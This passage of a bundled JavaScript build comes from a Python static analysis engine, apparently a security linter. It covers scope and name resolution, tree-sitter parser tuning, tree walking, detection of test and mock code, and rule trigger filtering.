       * signal), asked at the same points, so a worker thread ends its file within moments of Ctrl-C.
       */
      constructor(at, interrupted) {
        this.at = at;
        this.interrupted = interrupted;
      }
      /** Throws OutOfTime once the deadline has passed. Cheap enough for the innermost loops. */
      check() {
        if (this.at === void 0 && !this.interrupted || ++this.calls % CHECK_EVERY !== 0)
          return;
        if (this.passed)
          throw new OutOfTime();
      }
      get passed() {
        return this.at !== void 0 && performance.now() > this.at || (this.interrupted?.() ?? false);
      }
    };
  }
});

// dist/python/module.js
var BUILTINS, KEYWORD_ASSIGNMENT, DOUBLE_STAR, FORMATTED_STRING_PREFIX, CLASS_KEYWORD, CLASSES, FUNCTION_KEYWORD, FUNCTIONS, STRINGS, GLOBAL_KEYWORD, GLOBAL_STATEMENTS, AUGMENTED_OPERATOR, ModuleFacts;
var init_module = __esm({
  "dist/python/module.js"() {
    "use strict";
    init_syntax();
    init_imports();
    init_module_aliases();
    init_scope();
    init_arguments();
    init_deadline();
    init_literals();
    BUILTINS = /* @__PURE__ */ new Set([
      "eval",
      "exec",
      "compile",
      "open",
      "input",
      "__import__",
      "getattr",
      "setattr",
      "print",
      "str",
      "int",
      "float",
      "bytes",
      "len",
      "range",
      "list",
      "dict",
      "set",
      "tuple",
      "bool",
      "repr",
      "format",
      "globals",
      "locals",
      "vars",
      "execfile",
      "raw_input",
      "reload",
      "file"
    ]);
    KEYWORD_ASSIGNMENT = /\b([A-Za-z_]\w*)\s*=(?!=)/g;
    DOUBLE_STAR = /\*\*/g;
    FORMATTED_STRING_PREFIX = /\b(?:[fFtT][rR]?|[rR][fFtT])(?=["'])/g;
    CLASS_KEYWORD = /\bclass\b/g;
    CLASSES = /* @__PURE__ */ new Set(["class_definition"]);
    FUNCTION_KEYWORD = /\b(?:def|lambda)\b/g;
    FUNCTIONS = /* @__PURE__ */ new Set(["function_definition", "lambda"]);
    STRINGS = /* @__PURE__ */ new Set(["string"]);
    GLOBAL_KEYWORD = /\bglobal\b/g;
    GLOBAL_STATEMENTS = /* @__PURE__ */ new Set(["global_statement"]);
    AUGMENTED_OPERATOR = String.raw`(?:[-+*/%&|^@]|//|\*\*|<<|>>)?`;
    ModuleFacts = class {
      root;
      source;
      deadline;
      imports;
      qualifiedCache = /* @__PURE__ */ new Map();
      /** Functions and lambdas sorted by start byte: `node.parent` walks down from the root, so ancestor chains are slow. */
      functions;
      /** Definitions found once per file and shared by every rule that asks (`classDefinitions`, `functionDefinitions`). */
      classes;
      functionDefs;
      /** For constant folding: a name changed in part (`x.y = …`, `x[i] = …`) holds more than its assignments. */
      resolve = (identifier) => this.changedInPart(identifier) ? void 0 : this.valuesOf(identifier);
      wordSet;
      keywordCalls = /* @__PURE__ */ new Map();
      patternMatches = /* @__PURE__ */ new Map();
      /** Every `word =` of the source (`callsWithKeyword`), read once for all the keyword filters of a file. */
      keywordAssignments;
      /** Module names a function rebinds after `global NAME`, with those functions. */
      globalRebindings;
      /** `owner id:name` → whether `name.attr = …` or `name[k] = …` appears in the owner's text. */
      pathAssignments = /* @__PURE__ */ new Map();
      /** `deadline`: the analysis's time bound, for loops that can run long to check (src/python/deadline.ts). */
      constructor(root, source, deadline = Deadline.NONE) {
        this.root = root;
        this.source = source;
        this.deadline = deadline;
        this.imports = collectImports(root, source);
      }
      /** Whether the source matches `pattern`, asked once per file for every rule sharing the pattern (rule triggers). */
      sourceMatches(pattern) {
        const key = `${pattern.flags}/${pattern.source}`;
        let matches = this.patternMatches.get(key);
        if (matches === void 0) {
          matches = pattern.test(this.source);
          this.patternMatches.set(key, matches);
        }
        return matches;
      }
      /** Every identifier-shaped word of the source, comments and strings included (rule triggers test it). */
      get words() {
        if (this.wordSet)
          return this.wordSet;
        const words2 = new Set(this.source.match(/[A-Za-z_][A-Za-z0-9_]*/g));
        for (const word of movedWords(words2))
          words2.add(word);
        return this.wordSet = words2;
      }
      /** The scope (function or module) whose bindings decide what a name at `node` refers to. */
      scopeOf(node) {
        return this.scopeFor(this.functionAt(node) ?? this.root);
      }
      /** The innermost function or lambda that contains `node` (not `node` itself), or null at module level. */
      functionAt(node) {
        this.functions ??= this.findFunctions();
        const { start, end, nodes } = this.functions;
        const from = node.startIndex;
        const to = node.endIndex;
        let low = 0;
        let high = start.length - 1;
        let last = -1;
        while (low <= high) {
          const middle = low + high >> 1;
          if (start[middle] <= from) {
            last = middle;
            low = middle + 1;
          } else
            high = middle - 1;
        }
        for (let index = last; index >= 0; index--) {
          if (end[index] >= to && !(start[index] === from && end[index] === to))
            return nodes[index];
        }
        return null;
      }
      /** Functions and lambdas in source order, found from their keywords like the imports (see `collectImports`). */
      findFunctions() {
        const nodes = nodesOfKeyword(this.root, this.source, FUNCTION_KEYWORD, FUNCTIONS);
        return { start: nodes.map((fn) => fn.startIndex), end: nodes.map((fn) => fn.endIndex), nodes };
      }
      /** The scope of a function, lambda or the module (built once per tree by `buildScope`). */
      scopeFor(owner) {
        return buildScope(owner);
      }
      /** The expressions an identifier holds at its use: its function's bindings first, then the module's. */
      valuesOf(identifier) {
        const name = identifier.text;
        const local = this.scopeOf(identifier);
        if (this.globalRebinds().has(name))
          return void 0;
        if (local.bindings.has(name))
          return local.valuesBefore(name, identifier.startIndex);
        if (local.node.id === this.root.id)
          return void 0;
        const module2 = this.scopeFor(this.root);
        const bindings = module2.bindings.get(name);
        if (!bindings || bindings.length !== 1 || bindings[0].kind !== "assign" || !bindings[0].value)
          return void 0;
        return [bindings[0].value];
      }
      /**
       * Whether the value `identifier` names may have been changed in part: `name.attr = …` or `name[k] = …` in its own
       * scope, or anywhere in the module for a module-level name (a function needs no `global` for that). It is still
       * the same object (valuesOf says what was bound), but its contents are no longer the assigned constant.
       */
      changedInPart(identifier) {
        const name = identifier.text;
        const local = this.scopeOf(identifier);
        if (local.bindings.has(name))
          return this.assignedByPath(name, local.node);
        return this.assignedByPath(name, this.root);
      }
      /** Module names rebound inside a function that declares them `global`, each with the functions that do. */
      globalRebinds() {
        if (this.globalRebindings)
          return this.globalRebindings;
        const rebinds = /* @__PURE__ */ new Map();
        for (const statement of nodesOfKeyword(this.root, this.source, GLOBAL_KEYWORD, GLOBAL_STATEMENTS)) {
          const owner = this.functionAt(statement);
          if (!owner)
            continue;
          const scope = this.scopeFor(owner);
          for (const name of statement.namedChildren) {
            if (name.type !== "identifier" || !scope.bindings.has(name.text))
              continue;
            const owners = rebinds.get(name.text) ?? [];
            if (!owners.some((known) => known.id === owner.id))
              owners.push(owner);
            rebinds.set(name.text, owners);
          }
        }
        return this.globalRebindings = rebinds;
      }
      /** Whether `name.attr = …` or `name[key] = …` (plain or augmented) is written anywhere in `owner`. */
      assignedByPath(name, owner) {
        const key = `${owner.id}:${name}`;
        let found = this.pathAssignments.get(key);
        if (found === void 0) {
          const pattern = new RegExp(String.raw`(?<![\w.])${name}\s*(?:\.\s*[A-Za-z_]\w*\s*|\[[^=\n]*?\]\s*)+${AUGMENTED_OPERATOR}=(?!=)`, "u");
          const text = owner.id === this.root.id ? this.source : this.source.slice(owner.startIndex, owner.endIndex);
          found = pattern.test(text);
          this.pathAssignments.set(key, found);
        }
        return found;
      }
      /** The parameter binding of `identifier` in its function, if the name is (only) a parameter there. */
      isParameter(identifier) {
        const bindings = this.scopeOf(identifier).bindings.get(identifier.text);
        return !!bindings && bindings.some((binding) => binding.kind === "parameter");
      }
      /**
       * Qualified name of a callee or attribute: `sp.call` with `import subprocess as sp` → `subprocess.call`;
       * `requests.Session().get` → `requests.Session().get`; a local bound once to a call → that call's name + `()`.
       */
      qualifiedName(node) {
        const cached = this.qualifiedCache.get(node.id);
        if (cached !== void 0 || this.qualifiedCache.has(node.id))
          return cached;
        const computed = this.computeQualifiedName(node, 0);
        const result = computed === void 0 ? void 0 : canonicalName(computed);
        this.qualifiedCache.set(node.id, result);
        return result;
      }
      computeQualifiedName(node, depth) {
        if (depth > 8)
          return void 0;
        switch (node.type) {
          case "identifier": {
            const name = node.text;
            const imported = this.imports.aliases.get(name);
            const local = this.scopeOf(node);
            if (!local.bindings.has(name) && imported)
              return imported;
            const values = local.bindings.has(name) ? local.valuesBefore(name, node.startIndex) : this.valuesOf(node);
            if (values?.length === 1 && values[0].type === "call") {
              const callee = values[0].childForFieldName("function");
              const inner = callee ? this.computeQualifiedName(callee, depth + 1) : void 0;
              return inner ? `${inner}()` : name;
            }
            if (imported && !local.bindings.has(name))
              return imported;
            return name;
          }
          case "attribute": {
            const object = node.childForFieldName("object");
            const attribute = node.childForFieldName("attribute")?.text;
            if (!object || !attribute)
              return void 0;
            const base = this.computeQualifiedName(object, depth + 1);
            return base === void 0 ? void 0 : `${base}.${attribute}`;
          }
          case "call": {
            const callee = node.childForFieldName("function");
            const inner = callee ? this.computeQualifiedName(callee, depth + 1) : void 0;
            return inner === void 0 ? void 0 : `${inner}()`;
          }
          case "parenthesized_expression": {
            const inner = node.firstNamedChild;
            return inner ? this.computeQualifiedName(inner, depth + 1) : void 0;
          }
          default:
            return void 0;
        }
      }
      /** The qualified name of the function a call invokes. */
      callName(call) {
        const callee = call.childForFieldName("function");
        return callee ? this.qualifiedName(callee) : void 0;
      }
      /** The last dotted segment of the callee as written (`a.b().c` → `c`). */
      calleeAttribute(call) {
        const callee = call.childForFieldName("function");
        if (!callee)
          return void 0;
        if (callee.type === "identifier")
          return callee.text;
        if (callee.type === "attribute")
          return callee.childForFieldName("attribute")?.text;
        return void 0;
      }
      /**
       * What the last segment of `callName(call)` can be, found without resolving scopes: the attribute of `a.b.c()`;
       * for `f()`, `f` and the last segment of the import `f` may stand for. A qualified name ending in `()` (the result
       * of a call, called) is not covered, so a rule matching plain names may skip every call whose candidates all
       * miss its set, before paying for `callName`.
       */
      calleeLastNames(call) {
        let callee = call.childForFieldName("function");
        while (callee?.type === "parenthesized_expression")
          callee = callee.firstNamedChild;
        if (callee?.type === "attribute") {
          const attribute = callee.childForFieldName("attribute")?.text;
          return attribute ? [attribute] : [];
        }
        if (callee?.type !== "identifier")
          return [];
        const name = callee.text;
        const imported = this.imports.aliases.get(name);
        return imported ? [name, lastName(imported)] : [name];
      }
      /**
       * The calls whose callee can end in one of `names` (as `calleeLastNames` tells it), in source order (start, then
       * the outer of two calls starting together), found from the text: each whole-word occurrence of a name, or of a
       * local name an import binds to one, is looked up in the tree, and kept when it is the callee (or the attribute
       * of the callee) of a call. Words in strings and comments are looked up and dropped.
       */
      callsNamed(names) {
        const words2 = [...names].filter((name) => this.words.has(name));
        for (const [alias, qualified] of this.imports.aliases) {
          if (names.has(lastName(qualified)) && !names.has(alias))
            words2.push(alias);
        }
        if (words2.length === 0)
          return [];
        const calls = /* @__PURE__ */ new Map();
        const pattern = new RegExp(`\\b(?:${words2.map((word) => word.replace(/[^\w]/g, "\\$&")).join("|")})\\b(?=\\s*[()#\\\\])`, "g");
        for (const match of this.source.matchAll(pattern)) {
          const name = this.root.descendantForIndex(match.index, match.index + match[0].length);
          if (name.type !== "identifier" || name.startIndex !== match.index || name.endIndex !== match.index + match[0].length)
            continue;
          let callee = name;
          const parent = name.parent;
          if (parent?.type === "attribute" && parent.childForFieldName("attribute")?.id === name.id)
            callee = parent;
          while (callee.parent?.type === "parenthesized_expression")
            callee = callee.parent;
          const call = callee.parent;
          if (call?.type === "call" && call.childForFieldName("function")?.id === callee.id)
            calls.set(call.id, call);
        }
        return [...calls.values()].sort(inSourceOrder);
      }
      /**
       * The calls (by node id) that pass a keyword argument whose name matches `name`, found from the text: each
       * `word =` whose word matches is looked up in the tree. A rule wanting `verify=` reads a handful of nodes instead
       * of the arguments of every call. (A comment between a keyword and its `=` is not seen; Python allows it, nobody
       * writes it.)
       */
      callsWithKeyword(name) {
        const known = this.keywordCalls.get(name);
        if (known)
          return known;
        const calls = /* @__PURE__ */ new Map();
        this.keywordAssignments ??= [...this.source.matchAll(KEYWORD_ASSIGNMENT)].map((match) => ({ word: match[1], index: match.index }));
        for (const { word, index } of this.keywordAssignments) {
          if (!name.test(word))
            continue;
          const keyword = this.root.descendantForIndex(index, index + word.length).parent;
          if (keyword?.type !== "keyword_argument")
            continue;
          const call = keyword.parent?.parent;
          if (call?.type === "call")
            calls.set(call.id, call);
        }
        for (const match of this.source.matchAll(DOUBLE_STAR)) {
          const splat = this.root.descendantForIndex(match.index, match.index + 2).parent;
          const call = splat?.type === "dictionary_splat" ? splat.parent?.parent : void 0;
          if (call?.type === "call" && keywordNames(call).some((word) => name.test(word)))
            calls.set(call.id, call);
        }
        this.keywordCalls.set(name, calls);
        return calls;
      }
      /** The class definitions of the module, in source order, found from their keyword like the functions: once per
       * file (a rule asking for each call it looks at rescanned the source every time, 5% of Nova's analysis). */
      classDefinitions() {
        return this.classes ??= nodesOfKeyword(this.root, this.source, CLASS_KEYWORD, CLASSES);
      }
      /** The `def`s of the module (lambdas left out), in source order, from the list `functionAt` builds anyway. */
      functionDefinitions() {
        this.functions ??= this.findFunctions();
        return this.functionDefs ??= this.functions.nodes.filter((fn) => fn.type === "function_definition");
      }
      /**
       * The strings with interpolations (f-strings, t-strings), in source order, found from their prefixes: most strings
       * have none, and a handler on `string` materialises every string of the file.
       */
      formattedStrings() {
        return nodesOfKeyword(this.root, this.source, FORMATTED_STRING_PREFIX, STRINGS, "string_start");
      }
      isBuiltin(name) {
        return BUILTINS.has(name) && !this.imports.aliases.has(name);
      }
      /** True when some import statement brings in a name containing `fragment` (Bandit's `is_module_imported_like`). */
      importsLike(fragment) {
        return this.imports.names.some((name) => name.includes(fragment));
      }
      /** True when a module (or something inside it) is imported. */
      importsModule(module2) {
        return this.imports.names.some((name) => name === module2 || name.startsWith(`${module2}.`));
      }
      fold(node) {
        return foldString(node, this.resolve);
      }
      constant(node) {
        return constantValue(node, this.resolve);
      }
      isConstant(node) {
        return this.constant(node) !== void 0;
      }
    };
  }
});

// dist/v8-flags.cjs
var require_v8_flags = __commonJS({
  "dist/v8-flags.cjs"(exports2) {
    "use strict";
    Object.defineProperty(exports2, "__esModule", { value: true });
    exports2.setV8Flag = setV8Flag3;
    exports2.flagsToken = flagsToken;
    exports2.flagsChangedSince = flagsChangedSince;
    var vm = require("node:vm");
    var setHere = /* @__PURE__ */ new Set();
    function setV8Flag3(flag) {
      if (setHere.has(flag))
        return;
      setHere.add(flag);
      require("node:v8").setFlagsFromString(flag);
    }
    function flagsToken() {
      return new vm.Script("0", { filename: "flags-probe-start" }).createCachedData();
    }
    function flagsChangedSince(token) {
      return new vm.Script("0", { filename: "flags-probe-exit", cachedData: token }).cachedDataRejected === true;
    }
  }
});

// dist/errors.js
var init_errors = __esm({
  "dist/errors.js"() {
    "use strict";
  }
});

// dist/engine/tree-sitter-tuning.js
function tuneTreeSitter(binding, language, installedVersion = bindingVersion()) {
  if (decided)
    return decided;
  const missing = missingPart(binding, installedVersion);
  if (missing)
    return decided = { tuned: false, reason: missing };
  const SyntaxNode = binding.SyntaxNode;
  forgetHandedOutNodes(binding);
  language.nodeSubclasses ??= nodeClasses(language, SyntaxNode);
  rememberNodeAnswers(SyntaxNode.prototype);
  return decided = { tuned: true };
}
function bindingVersion() {
  return require2("tree-sitter/package.json").version;
}
function missingPart(binding, version) {
  if (!TUNED_FOR.includes(version))
    return `node-tree-sitter ${version}: the tuning was written for ${TUNED_FOR.join(", ")}`;
  const tree = binding.Tree?.prototype;
  if (typeof tree?._cacheNode !== "function" || typeof tree._cacheNodes !== "function")
    return "no Tree.prototype._cacheNode/_cacheNodes";
  const node = binding.SyntaxNode?.prototype;
  if (!node)
    return "no SyntaxNode";
  for (const getter of ["parent", "endIndex", "children", "namedChildren"]) {
    if (!Object.getOwnPropertyDescriptor(node, getter)?.get)
      return `no SyntaxNode.prototype.${getter} getter`;
  }
  if (typeof node.childForFieldName !== "function")
    return "no SyntaxNode.prototype.childForFieldName";
  if (typeof nativeBinding().getNodeTypeNamesById !== "function")
    return "no getNodeTypeNamesById in the native binding";
  return void 0;
}
function forgetHandedOutNodes(binding) {
  const tree = binding.Tree.prototype;
  tree._cacheNode = () => void 0;
  tree._cacheNodes = () => void 0;
}
function nativeBinding() {
  const fromTreeSitter = (0, import_node_module.createRequire)(require2.resolve("tree-sitter"));
  const load = fromTreeSitter("node-gyp-build");
  return load((0, import_node_path.dirname)(fromTreeSitter.resolve("tree-sitter/package.json")));
}
function nodeClasses(language, base) {
  const binding = nativeBinding();
  const named = new Set((language.nodeTypeInfo ?? []).filter((info) => info.named).map((info) => info.type));
  return binding.getNodeTypeNamesById(language).map((type) => type && named.has(type) ? nodeClass(base, type) : base);
}
function nodeClass(base, type) {
  const typed = class extends base {
  };
  Object.defineProperty(typed.prototype, "type", { value: type, configurable: true });
  return typed;
}
function rememberNodeAnswers(prototype) {
  if (Object.prototype.hasOwnProperty.call(prototype, FIELDS))
    return;
  Object.defineProperty(prototype, FIELDS, { value: void 0, writable: true });
  rememberParents(prototype);
  for (const name of REMEMBERED_GETTERS) {
    const native = Object.getOwnPropertyDescriptor(prototype, name)?.get;
    if (!native)
      continue;
    const slot = Symbol(name);
    Object.defineProperty(prototype, name, {
      configurable: true,
      get() {
        if (slot in this)
          return this[slot];
        return this[slot] = native.call(this);
      }
    });
  }
  for (const name of REMEMBERED_LISTS) {
    const native = Object.getOwnPropertyDescriptor(prototype, name)?.get;
    if (!native)
      continue;
    const slot = Symbol(name);
    Object.defineProperty(prototype, name, {
      configurable: true,
      get() {
        const list = this[slot] ??= native.call(this);
        return list.slice();
      }
    });
  }
  const childForFieldName = prototype.childForFieldName;
  if (childForFieldName) {
    Object.defineProperty(prototype, "childForFieldName", {
      configurable: true,
      writable: true,
      value(field) {
        const fields = this[FIELDS] ??= /* @__PURE__ */ new Map();
        if (fields.has(field))
          return fields.get(field);
        const child = childForFieldName.call(this, field);
        fields.set(field, child);
        return child;
      }
    });
  }
  Object.defineProperty(prototype, "id", {
    configurable: true,
    get() {
      return this[0] + this[1] * 4294967296;
    }
  });
  Object.defineProperty(prototype, "startIndex", {
    configurable: true,
    get() {
      return this[2] >>> 1;
    }
  });
}
function rememberParents(prototype) {
  const native = Object.getOwnPropertyDescriptor(prototype, "parent")?.get;
  if (!native)
    return;
  Object.defineProperty(prototype, "parent", {
    configurable: true,
    get() {
      if (PARENT in this)
        return this[PARENT];
      const hops = this[HOPS] ?? 0;
      if (hops >= LONG_CHAIN && rememberAncestors(this))
        return this[PARENT];
      const parent = native.call(this);
      if (parent)
        parent[HOPS] = hops + 1;
      return this[PARENT] = parent;
    }
  });
}
function rememberAncestors(node) {
  const cursor = node.tree.rootNode.walk();
  const path = [cursor.currentNode];
  const target = node.id;
  const start = node.startIndex;
  const end = node.endIndex;
  while (path[path.length - 1].id !== target) {
    if (cursor.gotoFirstChildForIndex(start) === null)
      return false;
    const child = cursor.currentNode;
    if (child.startIndex > start || child.endIndex < end)
      return false;
    path.push(child);
  }
  path[0][PARENT] = null;
  for (let index = 1; index < path.length - 1; index++)
    path[index][PARENT] = path[index - 1];
  node[PARENT] = path.length > 1 ? path[path.length - 2] : null;
  return true;
}
var import_node_module, import_node_path, require2, TUNED_FOR, decided, REMEMBERED_GETTERS, REMEMBERED_LISTS, FIELDS, PARENT, HOPS, LONG_CHAIN;
var init_tree_sitter_tuning = __esm({
  "dist/engine/tree-sitter-tuning.js"() {
    "use strict";
    import_node_module = require("node:module");
    import_node_path = require("node:path");
    init_errors();
    require2 = (0, import_node_module.createRequire)(__bundle_url);
    TUNED_FOR = ["0.25.0", "0.25.1"];
    REMEMBERED_GETTERS = ["endIndex", "firstNamedChild", "namedChildCount", "childCount", "hasError", "isMissing"];
    REMEMBERED_LISTS = ["namedChildren", "children"];
    FIELDS = Symbol("fields");
    PARENT = Symbol("parent");
    HOPS = Symbol("hops");
    LONG_CHAIN = 48;
  }
});

// dist/engine/parser.js
function parsePython(source, timeLimitMs) {
  parser ??= createParser();
  const micros = timeLimitMs === void 0 || !(timeLimitMs > 0) ? 0 : Math.min(MAX_TIMEOUT_MICROS, Math.max(1, Math.round(timeLimitMs * 1e3)));
  parser.setTimeoutMicros(micros);
  const tree = parser.parse(source);
  if (!tree) {
    parser.reset();
    throw new ParseTimeout(`parsing took longer than ${timeLimitMs} ms`);
  }
  return tree;
}
function createParser() {
  const TreeSitter = require3("tree-sitter");
  const Python = require3("tree-sitter-python");
  tuneTreeSitter(TreeSitter, Python);
  const created = new TreeSitter();
  created.setLanguage(Python);
  return created;
}
async function releaseTrees() {
  if (!collectGarbage) {
    (0, import_v8_flags.setV8Flag)("--expose-gc");
    collectGarbage = require3("node:vm").runInNewContext("gc");
  }
  collectGarbage();
  await new Promise((resolve) => setImmediate(resolve));
}
var import_node_module2, import_v8_flags, require3, parser, ParseTimeout, MAX_TIMEOUT_MICROS, RELEASE_EVERY_BYTES, collectGarbage;
var init_parser = __esm({
  "dist/engine/parser.js"() {
    "use strict";
    import_node_module2 = require("node:module");
    import_v8_flags = __toESM(require_v8_flags(), 1);
    init_tree_sitter_tuning();
    require3 = (0, import_node_module2.createRequire)(__bundle_url);
    ParseTimeout = class extends Error {
    };
    MAX_TIMEOUT_MICROS = 4294967295;
    RELEASE_EVERY_BYTES = 512 * 1024;
  }
});

// dist/engine/walk.js
function collectRuleTimes() {
  ruleTimes ??= /* @__PURE__ */ new Map();
  return ruleTimes;
}
function activeRuleTimes() {
  return ruleTimes;
}
function walkTree(tree, dispatch, onHandlerError, deadline, found) {
  const failed = /* @__PURE__ */ new Set();
  const dispatchTo = (node, handlers) => {
    for (const handler of handlers) {
      if (failed.size > 0 && failed.has(handler.ruleId))
        continue;
      try {
        if (ruleTimes) {
          const start = performance.now();
          handler.handle(node);
          ruleTimes.set(handler.ruleId, (ruleTimes.get(handler.ruleId) ?? 0) + performance.now() - start);
        } else {
          handler.handle(node);
        }
      } catch (error) {
        if (error instanceof OutOfTime)
          throw error;
        failed.add(handler.ruleId);
        onHandlerError(handler.ruleId, error);
      }
    }
  };
  const rootHandlers = dispatch.get("module");
  if (rootHandlers)
    dispatchTo(tree.rootNode, rootHandlers);
  const types = [...dispatch.keys()].filter((type) => type !== "module");
  const walked = types.length === 0 ? [] : tree.rootNode.descendantsOfType(types);
  const extra = found?.nodes ?? [];
  let next = 0;
  for (let index = 0; index < walked.length + extra.length; index++) {
    if (deadline !== void 0 && index % DEADLINE_CHECK_EVERY === 0 && deadline.passed)
      return false;
    const walkedIndex = index - next;
    const takeFound = next < extra.length && (walkedIndex >= walked.length || inSourceOrder(extra[next], walked[walkedIndex]) < 0);
    const node = takeFound ? extra[next++] : walked[walkedIndex];
    const handlers = takeFound ? found.handlers : dispatch.get(node.type);
    if (handlers)
      dispatchTo(node, handlers);
  }
  return true;
}
var ruleTimes, DEADLINE_CHECK_EVERY;
var init_walk = __esm({
  "dist/engine/walk.js"() {
    "use strict";
    init_syntax();
    init_deadline();
    DEADLINE_CHECK_EVERY = 256;
  }
});

// dist/python/test-signals.js
function testCodeSignals(module2) {
  const signals = [];
  const imported = TEST_MODULES.find((name) => module2.importsModule(name));
  if (imported)
    signals.push(`imports ${imported}`);
  for (const child of module2.root.namedChildren) {
    const definition = child.type === "decorated_definition" ? child.childForFieldName("definition") : child;
    if (!definition)
      continue;
    if (definition.type === "class_definition" && isTestClass(definition)) {
      signals.push("defines a TestCase subclass");
      break;
    }
    if (definition.type === "function_definition" && isTestFunction(definition)) {
      signals.push("defines test_* functions");
      break;
    }
  }
  return signals;
}
function isTestClass(definition) {
  const bases = definition.childForFieldName("superclasses")?.text ?? "";
  if (TEST_CASE_BASE.test(bases))
    return true;
  const name = definition.childForFieldName("name")?.text ?? "";
  if (!/^Test|Tests?$/.test(name))
    return false;
  const body = definition.childForFieldName("body");
  return !!body && body.namedChildren.some((member) => {
    const method = member.type === "decorated_definition" ? member.childForFieldName("definition") : member;
    return method?.type === "function_definition" && /^test_/.test(method.childForFieldName("name")?.text ?? "");
  });
}
function isTestFunction(definition) {
  if (!/^test_/.test(definition.childForFieldName("name")?.text ?? ""))
    return false;
  const body = definition.childForFieldName("body");
  if (!body)
    return false;
  if (body.descendantsOfType("assert_statement").length > 0)
    return true;
  return body.descendantsOfType("call").some((call) => /(^|\.)(raises|assert\w*)$/.test(call.childForFieldName("function")?.text ?? ""));
}
var TEST_MODULES, TEST_CASE_BASE;
var init_test_signals = __esm({
  "dist/python/test-signals.js"() {
    "use strict";
    TEST_MODULES = ["unittest.mock", "mock", "pytest", "testtools", "fixtures", "oslotest", "nose", "hypothesis", "testscenarios", "pytest_mock", "responses", "freezegun"];
    TEST_CASE_BASE = /TestCase|TestBase|\bTest\b|Tests?\)|Base\w*Test/;
  }
});

// dist/python/mock.js
function isMockExpectation(node, module2) {
  let current = node.parent;
  while (current) {
    if (current.type === "argument_list") {
      const call = current.parent;
      const callee = call?.childForFieldName("function");
      if (callee && isExpectationCallee(callee, module2))
        return true;
    }
    if (current.type === "function_definition" || current.type === "class_definition" || current.type === "lambda")
      return false;
    current = current.parent;
  }
  return false;
}
function isExpectationCallee(callee, module2) {
  if (callee.type === "attribute" && EXPECTATION_METHODS.has(callee.childForFieldName("attribute")?.text ?? ""))
    return true;
  const name = (module2?.qualifiedName(callee) ?? callee.text).replace(/^unittest\./, "");
  if (EXPECTATION_FUNCTIONS.has(name) || SELF_PATCH_METHODS.has(name))
    return true;
  return /^(mock|mocker)\.call\./.test(name);
}
var EXPECTATION_METHODS, EXPECTATION_FUNCTIONS, SELF_PATCH_METHODS;
var init_mock = __esm({
  "dist/python/mock.js"() {
    "use strict";
    EXPECTATION_METHODS = /* @__PURE__ */ new Set([
      "assert_called_with",
      "assert_called_once_with",
      "assert_any_call",
      "assert_has_calls",
      "assert_not_called_with",
      "assert_awaited_with",
      "assert_awaited_once_with",
      "assert_any_await",
      "assert_has_awaits"
    ]);
    EXPECTATION_FUNCTIONS = /* @__PURE__ */ new Set([
      "mock.call",
      "mock.patch",
      "mock.patch.object",
      "mock.patch.dict",
      "mock.patch.multiple",
      "mock.patch.stopall",
      "mock.sentinel",
      "mocker.patch",
      "mocker.patch.object",
      "mocker.patch.dict",
      "mocker.patch.multiple",
      "mocker.call",
      "monkeypatch.setattr",
      "monkeypatch.delattr",
      "fixtures.MockPatch",
      "fixtures.MockPatchObject",
      "fixtures.MonkeyPatch",
      "fixtures.MockPatchMultiple"
    ]);
    SELF_PATCH_METHODS = /* @__PURE__ */ new Set(["self.stub_out", "self.patch"]);
  }
});

// dist/engine/rule-filters.js
function compileTriggers(rule, options) {
  const triggers = typeof rule.triggers === "function" ? rule.triggers(options) : rule.triggers;
  if (!triggers)
    return void 0;
  const compiled = { words: [], allOf: [], substrings: [], patterns: [] };
  for (const trigger of triggers) {
    if (Array.isArray(trigger)) {
      const words2 = [...new Set(trigger)];
      if (words2.some((word) => !IDENTIFIER.test(word)))
        throw new Error(`rule ${rule.id}: a trigger group holds identifiers only: ${words2.join(", ")}`);
      if (words2.length === 1)
        compiled.words.push(words2[0]);
      else
        compiled.allOf.push(words2);
    } else if (trigger instanceof RegExp)
      compiled.patterns.push(new RegExp(trigger.source, trigger.flags.replace(/[gy]/g, "")));
    else if (IDENTIFIER.test(trigger))
      compiled.words.push(trigger);
    else
      compiled.substrings.push(trigger);
  }
  return compiled;
}
function isTriggered(triggers, module2) {
  if (!triggers)
    return true;
  const { words: words2 } = module2;
  if (triggers.words.some((word) => words2.has(word)))
    return true;
  if (triggers.allOf.some((group) => group.every((word) => words2.has(word))))
    return true;
  if (triggers.substrings.some((text) => module2.source.includes(text)))
    return true;
  return triggers.patterns.some((pattern) => module2.sourceMatches(pattern));
}
function prepareRule(enabled) {
  let entry = preparedRules.get(enabled);
  if (!entry) {
    const { rule } = enabled;
    const options = { ...rule.options, ...enabled.options };
    const callees = typeof rule.callees === "function" ? rule.callees(options) : rule.callees;
    const byName2 = callees && !callees.some((name) => name.endsWith(")")) ? new Set(callees) : void 0;
    const byKeyword = byName2 || !callees ? rule.calleeKeywords : void 0;
    entry = { options, triggers: compileTriggers(rule, options), callees: byName2, calleeKeywords: byKeyword };
    preparedRules.set(enabled, entry);
  }
  return entry;
}
var IDENTIFIER, preparedRules, CallFilters;
var init_rule_filters = __esm({
  "dist/engine/rule-filters.js"() {
    "use strict";
    init_syntax();
    IDENTIFIER = /^[A-Za-z_][A-Za-z0-9_]*$/;
    preparedRules = /* @__PURE__ */ new WeakMap();
    CallFilters = class {
      module;
      names = /* @__PURE__ */ new Set();
      keywordCalls = /* @__PURE__ */ new Map();
      everyHandlerFiltered = true;
      /** The candidate last names of each call, shared by every rule filtering by name. */
      lastNames = /* @__PURE__ */ new WeakMap();
      constructor(module2) {
        this.module = module2;
      }
      /** The handler to register for a rule's `call` handler. */
      filter(handle, { callees, calleeKeywords }) {
        if (!callees && !calleeKeywords) {
          this.everyHandlerFiltered = false;
          return handle;
        }
        if (callees)
          for (const name of callees)
            this.names.add(name);
        const withKeyword = calleeKeywords ? this.module.callsWithKeyword(calleeKeywords) : void 0;
        if (withKeyword)
          for (const [id, call] of withKeyword)
            this.keywordCalls.set(id, call);
        return (call) => {
          if (callees && this.mayBe(call, callees) || withKeyword?.has(call.id))
            handle(call);
        };
      }
      /** Every call a handler wants, in source order; undefined when some handler wants them all. */
      wantedCalls() {
        if (!this.everyHandlerFiltered)
          return void 0;
        const calls = this.module.callsNamed(this.names);
        if (this.keywordCalls.size === 0)
          return calls;
        const named = new Set(calls.map((call) => call.id));
        calls.push(...[...this.keywordCalls.values()].filter((call) => !named.has(call.id)));
        return calls.sort(inSourceOrder);
      }
      mayBe(call, callees) {
        let names = this.lastNames.get(call);
        if (!names) {
          names = this.module.calleeLastNames(call);
          this.lastNames.set(call, names);
        }
        return names.some((name) => callees.has(name));
      }
    };
  }
});

